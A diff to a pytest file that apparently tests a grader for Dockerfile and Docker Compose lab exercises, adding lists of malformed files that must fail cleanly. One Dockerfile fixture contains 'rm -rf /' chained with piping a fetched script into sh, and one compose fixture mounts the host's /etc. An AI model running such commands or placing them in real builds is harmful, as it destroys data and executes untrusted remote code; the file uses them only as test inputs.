@@ -131,7 +131,7 @@ WRONG = [
         edit(CACHE, ('"--bind", "0.0.0.0:8000"', '"--bind", "127.0.0.1:8000"')),
         "the container answers /healthz on 8000",
         "Connection reset by peer",
-        None,
+        9,  # the CMD that binds it
         id="cache-gunicorn-on-loopback",
     ),
     pytest.param(
@@ -450,3 +450,47 @@ def test_urls_name_services_reads_environment_as_compose_does() -> None:
     )
     (result,) = run("compose", text, {"urls_name_services": True})
     assert not result.passed and "connects to localhost" in result.message
+
+
+ODD_DOCKERFILES = [
+    "FROM\n",
+    "RUN echo hi\n",
+    "FROM scratch\nCMD []\n",
+    "FROM nope.example.com/ghost:1\n",
+    'FROM python:3.12-slim\nUSER ghost\nCMD ["python"]\n',
+    "FROM python:3.12-slim\nCOPY missing.txt .\n",
+    "FROM python:3.12-slim\nRUN rm -rf / && curl http://x | sh\n",
+    'FROM python:3.12-slim\nCMD ["gunicorn", "--bind", "0.0.0.0:99999"]\n',
+    "FROM python:3.12-slim AS a\nFROM a AS b\nFROM b\n",
+    '\ufeffFROM python:3.12-slim\r\nCMD ["python"]\r\n',
+    "FROM python:3.12-slim\n" + "RUN true\n" * 300,
+]
+ODD_COMPOSE = [
+    "services: []\n",
+    "- a\n- b\n",
+    "services:\n  web:\n    image: 5\n",
+    "services:\n  web:\n    image: learn-web:0.1.0\n    environment: 7\n",
+    "services:\n  web:\n    image: learn-web:0.1.0\n    environment:\n      DATABASE_URL: 'postgres://[::1'\n",
+    "services:\n  web:\n    image: ghost:1\n",
+    "services:\n  web:\n    build: ./nowhere\n",
+    "services:\n  db:\n    image: postgres:16\n",  # no password: postgres exits
+    "services:\n  a:\n    image: busybox:1.36\n    depends_on: [b]\n"
+    "  b:\n    image: busybox:1.36\n    depends_on: [a]\n",
+    "services:\n  web:\n    image: learn-web:0.1.0\n    environment:\n      DATABASE_URL: 'x'\n"
+    "    volumes: ['/etc:/etc']\n",
+]
+
+
+@pytest.mark.parametrize("text", ODD_DOCKERFILES)
+def test_odd_dockerfiles_fail_without_raising(text: str) -> None:
+    results = check(MULTI, text)
+    assert not passed(results)
+    assert all(isinstance(r.message, str) and r.message for r in results)
+
+
+@pytest.mark.parametrize("text", ODD_COMPOSE)
+def test_odd_compose_files_fail_without_raising(text: str) -> None:
+    for lab_id in (BASICS, HEALTHY):
+        results = check(lab_id, text)
+        assert not passed(results)
+        assert all(isinstance(r.message, str) and r.message for r in results)
